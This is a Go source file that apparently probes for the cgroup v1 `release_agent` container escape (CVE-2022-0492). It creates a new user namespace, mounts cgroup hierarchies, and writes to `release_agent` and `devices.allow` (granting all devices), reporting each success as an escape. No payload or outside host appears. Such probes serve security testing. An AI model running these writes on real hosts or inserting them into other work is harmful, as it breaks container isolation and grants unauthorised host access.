package main

import (
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"syscall"

	"golang.org/x/sys/unix"
)

// release mounts hierarchies of cgroup v1 and writes what gives power over the host (CVE-2022-0492): the program that the kernel runs
// when a cgroup is empty, and which devices its own may use. Without an argument it does so as root of a new user namespace.
func release(args []string) error {
	if len(args) == 0 {
		cmd := exec.Command("/proc/self/exe", "release", "here")
		cmd.Stdout, cmd.Stderr = os.Stdout, os.Stderr
		cmd.SysProcAttr = &syscall.SysProcAttr{
			Cloneflags:  syscall.CLONE_NEWUSER | syscall.CLONE_NEWNS | syscall.CLONE_NEWCGROUP,
			UidMappings: []syscall.SysProcIDMap{{Size: 1, HostID: os.Geteuid()}}, GidMappings: []syscall.SysProcIDMap{{Size: 1, HostID: os.Getegid()}},
		}
		return cmd.Run()
	}
	dir, err := os.MkdirTemp("", "cgroup")
	if err != nil {
		return err
	}
	defer os.Remove(dir)
	got := false
	var held []error
	// No others: one that is in no hierarchy of version 1 yet would be taken from version 2 for as long.
	for _, hierarchy := range []string{"none,name=tare-escape", "none,name=systemd", "devices", "memory", "pids", "cpuset"} {
		if err := unix.Mount("cgroup", dir, "cgroup", 0, hierarchy); err != nil {
			held = append(held, fmt.Errorf("mount %s: %w", hierarchy, err))
			continue
		}
		fmt.Println("mounted", hierarchy)
		for name, text := range map[string]string{"release_agent": "\n", "devices.allow": "a"} {
			if name == "release_agent" && hierarchy == "none,name=systemd" {
				continue // the host's own may need it; it is like any other
			}
			if err := write(filepath.Join(dir, name), text); err != nil {
				held = append(held, fmt.Errorf("%s: %w", hierarchy, err))
			} else {
				escaped("wrote %s of %s", name, hierarchy)
				got = true
			}
		}
		if err := unix.Unmount(dir, 0); err != nil {
			held = append(held, fmt.Errorf("unmount %s: %w", hierarchy, err))
		}
	}
	if got {
		return nil
	}
	return errors.Join(held...)
}

// write writes into a file that is there.
func write(path, text string) error {
	f, err := os.OpenFile(path, os.O_WRONLY, 0)
	if err != nil {
		return err
	}
	_, err = f.WriteString(text)
	return errors.Join(err, f.Close())
}
